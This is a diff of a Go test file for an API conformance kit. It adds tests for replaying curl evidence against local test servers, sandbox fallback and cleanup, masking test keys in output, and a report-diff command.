+	if status != 0 || len(rep.results("fail")) != 0 {
+		t.Errorf("harmless differences failed %v\n%s", rep.results("fail"), out)
+	}
+}
+
+// TestConformanceCurlsReproduce: every curl of a failing report, run as written (bash, the
+// keys in their variables), sends the request the kit sent: it gets the status the kit saw.
+func TestConformanceCurlsReproduce(t *testing.T) {
+	t.Parallel()
+	needTools(t, "bash", "curl")
+	e := newEnv(t, envOptions{rate: -1, quiet: true})
+	made := &madeKeys{}
+	base := kitServer(t, e, brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
+		made.note(r, a)
+		switch {
+		case a.status == 405: // every wrong method: 404
+			problemAnswer(a, 404, "route_not_found")
+		case a.status == 413: // a body past 256 KiB read, and answered 200
+			a.status = 200
+		case a.status == 403 || a.status == 401: // and every refusal a 418
+			problemAnswer(a, 418, "teapot")
+		}
+	}})
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json")
+	if status != 1 {
+		t.Fatalf("exit status %d\n%s", status, out)
+	}
+	vars := []string{"KEY=sk_test_sandbox_all"}
+	for i, role := range []kitRole{roleMain, roleTracking, roleOrders, roleExpired, roleRevoked, roleBurst} {
+		vars = append(vars, string(role)+"="+made.at(i))
+	}
+	vars = append(vars, "ALT_KEY="+made.at(6))
+	ran := 0
+	for _, r := range rep.Rules {
+		for _, ev := range r.Evidence {
+			if ev.Status == 0 || !strings.HasPrefix(ev.Curl, "curl ") {
+				continue
+			}
+			ran++
+			cmd := exec.Command("bash", "-c", ev.Curl+" -o /dev/null -w '%{http_code}'")
+			cmd.Env = append(os.Environ(), vars...)
+			got, err := cmd.Output()
+			if err != nil || string(got) != strconv.Itoa(ev.Status) {
+				t.Errorf("%s: %s\nanswered %s (%v), the kit saw %d", r.ID, ev.Curl, got, err, ev.Status)
 			}
 		}
+	}
+	if ran < 10 {
+		t.Errorf("%d curls run: want those of auth.*, http.method_not_allowed and http.body_too_large", ran)
+	}
+}
+
+// TestConformanceSaysWhenItFallsBack: a server that answers 201 to the kit's sandbox without
+// the world it asked for (one key of six) is warned of, what it made is deleted, and the kit
+// judges what its keys read.
+func TestConformanceSaysWhenItFallsBack(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOptions{rate: -1, quiet: true})
+	base := kitServer(t, e, brokenServer{request: func(r *http.Request) {
+		if isMaking(r) {
+			rewriteBody(r, func(b string) string { return regexp.MustCompile(`,"keys":\[.*\]`).ReplaceAllString(b, "") })
+		}
+	}})
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-format", "json")
+	if status != 0 || rep.World != "discovered" || len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], "not with the world it asked for: it holds 1 keys, not the 6 asked for") {
+		t.Errorf("a 201 of one key: %d, world %s, warnings %q\n%s", status, rep.World, rep.Warnings, out)
+	}
+	if n := e.srv.registry.count(e.srv.now()); n != 0 {
+		t.Errorf("%d of the kit's sandboxes left", n)
+	}
+}
+
+// TestConformanceDiscoversWhereNoSandboxIsMade: against a server that makes no sandbox, the
+// kit reads what its keys read, judges what that holds, skips each rule without its data,
+// saying why, and writes nothing but the one sandbox it asked for: its 405 requests carry no
+// body and name ids no server holds. With the keys of acct_other and acct_sandbox, which
+// hold one tracking number each, the other account's rule sees acct_other's own shipment,
+// and passes.
+func TestConformanceDiscoversWhereNoSandboxIsMade(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOptions{rate: -1, quiet: true, seed: 150})
+	var mu sync.Mutex
+	var writes []string
+	base := kitServer(t, e, brokenServer{request: func(r *http.Request) {
+		if r.Method != http.MethodGet {
+			mu.Lock()
+			writes = append(writes, fmt.Sprintf("%s %s %d", r.Method, r.URL.Path, r.ContentLength))
+			mu.Unlock()
+		}
+		if isMaking(r) {
+			rewritePath(r, "/v1/nowhere")
+		}
+	}})
+	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", base, "-format", "json", "-key", "sk_test_sandbox_all", "-alt-key", "sk_test_other_all",
+		"-tracking-key", "sk_test_sandbox_tracking", "-orders-key", "sk_test_sandbox_orders", "-expired-key", "sk_test_sandbox_expired", "-revoked-key", "sk_test_sandbox_revoked")
+	if status != 0 || rep.World != "discovered" || len(rep.results("fail")) != 0 || len(rep.Warnings) != 0 {
+		t.Fatalf("status %d, world %s, failed %v, warnings %q\n%s", status, rep.World, rep.results("fail"), rep.Warnings, out)
+	}
+	for id, want := range map[string]string{
+		"tracking.no_offset": "needs the kit's own world", "tracking.events": "needs the kit's own world", "tracking.primary_number_only": "needs the kit's own world",
+		"tracking.ambiguous_number": "needs the kit's own world", "tracking.view_fields": "no shipment known", "orders.linked_shipment": "no order read is linked",
+		"limits.rate_limit": "run with -mode full",
+	} {
+		if !strings.Contains(rep.reason(id), want) {
+			t.Errorf("%s: reason %q, want it to say %q", id, rep.reason(id), want)
+		}
+	}
+	for _, id := range []string{"orders.cursor_walk", "orders.filter_status", "orders.filter_created", "orders.default_limit", "auth.other_account", "auth.expired_key", "auth.scope_orders", "http.method_not_allowed", "orders.exact_id"} {
+		if !slices.Contains(rep.results("pass"), id) {
+			t.Errorf("%s not judged on the discovered orders: %v", id, rep.reason(id))
+		}
+	}
+	for _, w := range writes {
+		if !strings.HasPrefix(w, "POST /v1/test_helpers/sandboxes ") && !strings.HasSuffix(w, " 0") {
+			t.Errorf("the kit wrote %s", w)
+		}
+		if strings.Contains(w, "ord_sbx") || strings.Contains(w, "ord_seed") || strings.Contains(w, "shp_sbx") {
+			t.Errorf("a 405 request named an id the server holds: %s", w)
+		}
+	}
+	// acct_other's view: its one order is linked; the number of its shipment is acct_sandbox's too.
+	status, rep, out, _ = kitRun(t, t.Context(), nil, "-base-url", base, "-format", "json", "-key", "sk_test_other_all", "-alt-key", "sk_test_sandbox_all")
+	if status != 0 || len(rep.results("fail")) != 0 || !slices.Contains(rep.results("pass"), "auth.other_account") || !slices.Contains(rep.results("pass"), "tracking.by_number") {
+		t.Errorf("acct_other discovered: %d, failed %v, passed %v\n%s", status, rep.results("fail"), rep.results("pass"), out)
 	}
 }
 
@@ -12194,7 +13025,7 @@ func TestConformanceProfiles(t *testing.T) {
 		}
 	}
 	ignored := kitServer(t, newEnv(t, envOptions{rate: -1, quiet: true}), brokenServer{request: func(r *http.Request) {
-		if r.URL.Path == "/v1/test_helpers/sandboxes" {
+		if isMaking(r) {
 			rewriteBody(r, func(b string) string { return strings.Replace(b, `,"profile":"domain_adapter"`, "", 1) })
 		}
 	}})
@@ -12204,38 +13035,8 @@ func TestConformanceProfiles(t *testing.T) {
 	}
 }
 
-// TestConformanceRateLimit: in full mode the kit's burst meets the sandbox's 429, with its
-// RateLimit fields and Retry-After; a server with no limit (-rate 0) fails the MUST rule,
-// and the headers' rule, without a 429 to judge, is skipped. A 429 met elsewhere is waited
-// out and counted.
-func TestConformanceRateLimit(t *testing.T) {
-	t.Parallel()
-	e := newEnv(t, envOptions{rate: -1, quiet: true})
-	status, rep, out, _ := kitRun(t, t.Context(), nil, "-base-url", kitServer(t, e, brokenServer{}), "-key", "sk_test_sandbox_all", "-mode", "full", "-rules", "limits.*", "-format", "json")
-	if status != 1 || strings.Join(rep.results("fail"), " ") != "limits.rate_limit" || strings.Join(rep.results("skip"), " ") != "limits.rate_limit_headers" {
-		t.Errorf("-rate 0: %d, failed %v, skipped %v\n%s", status, rep.results("fail"), rep.results("skip"), out)
-	}
-	if ev := rep.Rules[0].Evidence; len(ev) != 1 || !strings.HasPrefix(ev[0].Seen, fmt.Sprintf("%d requests, the last answered 200", maxBurst)) {
-		t.Errorf("the burst against no limit: %+v, want exactly %d requests", ev, maxBurst)
-	}
-	// One 429 on the first page of orders, then the page: waited out, sent again.
-	var once sync.Once
-	base := kitServer(t, newEnv(t, envOptions{rate: -1, quiet: true}), brokenServer{answer: func(r *http.Request, a *brokenAnswer) {
-		if isOrders(r) && r.URL.RawQuery == "" {
-			once.Do(func() {
-				a.status, a.body = 429, []byte(`{"type":"about:blank","title":"Too Many Requests","status":429,"detail":"slow down","code":"rate_limited","request_id":"req_0"}`)
-				a.header.Set("Retry-After", "0")
-			})
-		}
-	}})
-	status, rep, out, _ = kitRun(t, t.Context(), nil, "-base-url", base, "-key", "sk_test_sandbox_all", "-rules", "orders.default_limit", "-format", "json")
-	if status != 0 || rep.Summary.Retried != 1 || rep.Summary.Passed != 1 {
-		t.Errorf("a 429 waited out: %d, %+v\n%s", status, rep.Summary, out)
-	}
-}
-
 // TestConformanceInterrupted: SIGINT while the kit runs (a real process) deletes its
-// sandboxes and exits 130 within 5 s.
+// sandboxes and exits 130 within 5 s, saying so.
 func TestConformanceInterrupted(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, quiet: true})
@@ -12265,7 +13066,7 @@ func TestConformanceInterrupted(t *testing.T) {
 		cmd.Process.Kill()
 		t.Fatal("the kit never reached the stalled request")
 	}
-	if n := e.srv.book.count(e.clock.now()); n != 2 {
+	if n := e.srv.registry.count(e.clock.now()); n != 2 {
 		t.Fatalf("the kit's sandboxes: %d, want 2", n)
 	}
 	signalled := time.Now()
@@ -12274,8 +13075,48 @@ func TestConformanceInterrupted(t *testing.T) {
 	if status != 130 || took > 5*time.Second || !strings.Contains(stderr.String(), "interrupted: the kit's sandboxes are deleted") {
 		t.Errorf("SIGINT: exit status %d after %v; stderr %q", status, took, stderr.String())
 	}
-	if n := e.srv.book.count(e.clock.now()); n != 0 {
+	if n := e.srv.registry.count(e.clock.now()); n != 0 {
 		t.Errorf("%d of the kit's sandboxes left after SIGINT", n)
+	}
+}
+
+// TestConformanceLogsNoUnsolicitedAnswer: a server that sends bytes after its answers, its
+// keys among them, on a connection the kit keeps (a real process): Go's transport would log
+// them to standard error; the kit writes nothing of them.
+func TestConformanceLogsNoUnsolicitedAnswer(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, envOptions{rate: -1, quiet: true})
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		rec := httptest.NewRecorder()
+		e.h.ServeHTTP(rec, r)
+		conn, buf, err := http.NewResponseController(w).Hijack()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		res := rec.Result()
+		res.Write(buf)
+		fmt.Fprintf(buf, "HTTP/1.1 200 OK\r\nX-Echo: %s\r\n\r\n", r.Header.Get("Authorization")) // unsolicited
+		buf.Flush()
+		time.Sleep(50 * time.Millisecond)
+	})}
+	go srv.Serve(ln)
+	defer srv.Close()
+	bin, err := sandboxBinary()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(bin, "check", "-base-url", "http://"+ln.Addr().String()+"/v1", "-key", "sk_test_sandbox_all", "-rules", "orders.default_limit,auth.*")
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	cmd.Run()
+	if strings.Contains(stderr.String(), "Unsolicited") || holdsKey(stderr.String()+stdout.String(), []string{"sk_test_sandbox_all"}) != "" || strings.Contains(stderr.String(), "Bearer sk_") {
+		t.Errorf("the kit wrote the server's unsolicited bytes:\n%s", stderr.String())
 	}
 }
 
@@ -12286,8 +13127,160 @@ func TestConformanceKeysFromTheEnvironment(t *testing.T) {
 	e := newEnv(t, envOptions{rate: -1, quiet: true})
 	env := map[string]string{"SANDBOX_CHECK_BASE_URL": kitServer(t, e, brokenServer{}), "SANDBOX_CHECK_KEY": "sk_test_sandbox_all", "SANDBOX_CHECK_RULES": "auth.*", "SANDBOX_CHECK_FORMAT": "json"}
 	status, rep, out, _ := kitRun(t, t.Context(), env, "-format", "json")
-	if status != 0 || rep.Summary.Passed != 7 {
+	if status != 0 || rep.Summary.Passed != len(rulesNamed("auth.*")) {
 		t.Errorf("from the environment: %d %+v\n%s", status, rep.Summary, out)
+	}
+}
+
+// TestTheKitMasksEscapesAndReadsFields: the masking of keys whole and in parts; what the text
+// report escapes; XML 1.0's forbidden characters; the RateLimit fields as the draft writes
+// them.
+func TestTheKitMasksEscapesAndReadsFields(t *testing.T) {
+	t.Parallel()
+	s := newKitSecrets(map[kitRole]string{roleMain: "sk_test_q2w3e4r5t6y7u2i3", roleAlt: "alt_key_abcdefgh"})
+	for in, want := range map[string]string{
+		"Bearer sk_test_q2w3e4r5t6y7u2i3 done":          "Bearer $KEY done",
+		"cut: sk_test_q2w3":                             "cut: [key]",
+		"tail 4r5t6y7u2i3 and alt_key_abcdefgh":         "tail [key] and $ALT_KEY",
+		"short sk_test (7) stays":                       "short sk_test (7) stays",
+		"keys run together sk_test_q2w3e4r5alt_key_abc": "keys run together [key]",
+	} {
+		if got := s.mask(in); got != want {
+			t.Errorf("mask(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := printable("a\x1b[2Jb\nc\u202ed\xffe"); got != `a\u001b[2Jb\u000ac\u202ed\ufffde` {
+		t.Errorf("printable = %q", got)
+	}
+	if got := xmlText("a\x00b\x1bc<d>&\ufffe\tz"); got != "a\ufffdb\ufffdc&lt;d&gt;&amp;\ufffd&#x9;z" {
+		t.Errorf("xmlText = %q", got)
+	}
+	for _, tt := range []struct {
+		lines []string
+		ok    bool
+	}{
+		{[]string{`"default";q=25;w=1`}, true}, {[]string{`default;r=0;t=1`}, true}, {[]string{`"a";q=1`, `"b";q=2`}, true},
+		{[]string{"plenty left, honest"}, false}, {[]string{`"default";q=lots`}, false}, {[]string{`"default";=1`}, false},
+	} {
+		if _, err := parseRateLimitField(tt.lines); (err == nil) != tt.ok {
+			t.Errorf("parseRateLimitField(%q): %v, want ok %v", tt.lines, err, tt.ok)
+		}
+	}
+}
+
+// TestCheckDiff: check diff OLD NEW compares two reports of the kit rule by rule: each
+// change named (same, regressed, improved, changed, added, removed), the text and JSON forms,
+// -all, -out, exit 1 on a regression, 2 for a file that is not a report, saying which and why.
+func TestCheckDiff(t *testing.T) {
+	t.Parallel()
+	report := func(rules ...string) string {
+		var rs []string
+		for _, r := range rules {
+			id, result, _ := strings.Cut(r, "=")
+			rs = append(rs, fmt.Sprintf(`{"id":%q,"level":"MUST","title":"t","spec":"s","result":%q,"reason":null,"evidence":[{"expected":"e","seen":"the seen of %s","status":404,"curl":"curl","request_id":""}]}`, id, result, id))
+		}
+		return writeTemp(t, `{"base_url":"http://127.0.0.1:8080/v1","profile":"sandbox","mode":"safe","world":"own","warnings":[],"rules":[`+strings.Join(rs, ",")+`],"summary":{}}`)
+	}
+	old := report("a.same=pass", "a.worse=pass", "a.better=fail", "a.other=skip", "a.gone=pass")
+	new := report("a.same=pass", "a.worse=fail", "a.better=pass", "a.other=expected", "a.new=pass")
+	diff := func(t *testing.T, args ...string) (int, string, string) {
+		var stdout, stderr bytes.Buffer
+		status := runCheck(t.Context(), append([]string{"diff"}, args...), func(string) string { return "" }, &stdout, &stderr)
+		return status, stdout.String(), stderr.String()
+	}
+	status, text, _ := diff(t, old, new)
+	want := `OLD http://127.0.0.1:8080/v1 (profile sandbox, mode safe, world own), NEW http://127.0.0.1:8080/v1 (profile sandbox, mode safe, world own)
+regressed a.worse  pass -> fail  expected: e; seen: the seen of a.worse
+improved  a.better  fail -> pass  expected: e; seen: the seen of a.better
+changed   a.other  skip -> expected  expected: e; seen: the seen of a.other
+added     a.new  - -> pass  expected: e; seen: the seen of a.new
+removed   a.gone  pass -> -
+6 rules: 1 same, 1 regressed, 1 improved, 1 changed, 1 added, 1 removed
+`
+	if status != 1 || text != want {
+		t.Errorf("check diff: exit %d\n%s\nwant\n%s", status, text, want)
+	}
+	if status, text, _ := diff(t, "-all", old, new); status != 1 || !strings.Contains(text, "same      a.same  pass -> pass") {
+		t.Errorf("-all: %d\n%s", status, text)
+	}
+	out := filepath.Join(t.TempDir(), "diff.json")
+	if status, text, _ := diff(t, old, new, "-format", "json", "-out", out); status != 1 || text != "" {
+		t.Errorf("-format json -out: %d %q", status, text)
+	}
+	var d struct {
+		Old, New struct{ BaseURL, Profile, Mode, World string }
+		Rules    []struct {
+			ID, Change string
+			Old, New   *string
+			Reason     *string
+		}
+		Summary struct{ Total, Same, Regressed, Improved, Changed, Added, Removed int }
+	}
+	b, _ := os.ReadFile(out)
+	if err := json.Unmarshal(b, &d); err != nil || len(d.Rules) != 5 || d.Summary.Regressed != 1 || d.Summary.Total != 6 || d.Rules[4].New != nil || d.Rules[3].Old != nil {
+		t.Errorf("the JSON comparison: %v %+v\n%s", err, d, b)
+	}
+	if !bytes.HasPrefix(b, []byte(`{`+"\n"+`  "old": {`+"\n"+`    "base_url"`)) {
+		t.Errorf("the JSON comparison's members are not in order:\n%s", b)
+	}
+	if status, _, _ := diff(t, old, old); status != 0 {
+		t.Errorf("a report against itself: exit %d", status)
+	}
+	for _, tt := range []struct{ file, want string }{
+		{writeTemp(t, `not json`), "not a JSON report of the kit"},
+		{writeTemp(t, `{"rules":[]}`), "it has no base_url, or no rules"},
+		{writeTemp(t, `{"base_url":"x","rules":[{"id":"a"}]}`), "its rule 1 has no id, or no result"},
+		{filepath.Join(t.TempDir(), "missing.json"), "no such file"},
+	} {
+		if status, _, errs := diff(t, tt.file, new); status != 2 || !strings.Contains(errs, tt.file+": ") || !strings.Contains(errs, tt.want) {
+			t.Errorf("diff of %s: %d %q, want 2 saying %q", tt.file, status, errs, tt.want)
+		}
+	}
+	if status, _, errs := diff(t, old); status != 2 || !strings.Contains(errs, "want two reports") {
+		t.Errorf("diff of one report: %d %q", status, errs)
+	}
+}
+
+// TestFunctionsWithinBounds: no function of the sandbox's files is over 60 lines or 20
+// branches (if, for, a case, && and ||, counted with the functions it holds).
+func TestFunctionsWithinBounds(t *testing.T) {
+	t.Parallel()
+	fset := token.NewFileSet()
+	files, _ := filepath.Glob("*.go")
+	for _, f := range files {
+		if strings.HasSuffix(f, "_test.go") {
+			continue
+		}
+		file, err := parser.ParseFile(fset, f, nil, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, decl := range file.Decls {
+			fn, ok := decl.(*ast.FuncDecl)
+			if !ok || fn.Body == nil {
+				continue
+			}
+			lines := fset.Position(fn.Body.Rbrace).Line - fset.Position(fn.Pos()).Line + 1
+			branches := 0
+			ast.Inspect(fn.Body, func(n ast.Node) bool {
+				switch x := n.(type) {
+				case *ast.IfStmt, *ast.ForStmt, *ast.RangeStmt, *ast.CommClause:
+					branches++
+				case *ast.CaseClause:
+					if x.List != nil {
+						branches++
+					}
+				case *ast.BinaryExpr:
+					if x.Op == token.LAND || x.Op == token.LOR {
+						branches++
+					}
+				}
+				return true
+			})
+			if lines > 60 || branches > 20 {
+				t.Errorf("%s: %s is %d lines and %d branches, over 60 or 20", fset.Position(fn.Pos()), fn.Name.Name, lines, branches)
+			}
+		}
 	}
 }
 
@@ -12317,4 +13310,20 @@ func benchKit(b *testing.B, args ...string) {
 		requests = rep.Summary.Requests
 	}
 	b.ReportMetric(float64(requests), "requests/run")
+}
+
+// BenchmarkCheckDiff: check diff of two full reports of the self-check (the contract: within
+// 50 ms).
+func BenchmarkCheckDiff(b *testing.B) {
+	var out bytes.Buffer
+	runCheck(b.Context(), []string{"-format", "json", "-mode", "safe"}, func(string) string { return "" }, &out, io.Discard)
+	dir := b.TempDir()
+	old, new := filepath.Join(dir, "old.json"), filepath.Join(dir, "new.json")
+	os.WriteFile(old, out.Bytes(), 0o644)
+	os.WriteFile(new, bytes.Replace(out.Bytes(), []byte(`"result": "pass"`), []byte(`"result": "fail"`), 3), 0o644)
+	for b.Loop() {
+		if status := runCheck(b.Context(), []string{"diff", old, new}, func(string) string { return "" }, io.Discard, io.Discard); status != 1 {
+			b.Fatalf("check diff: exit %d", status)
+		}
+	}
 }
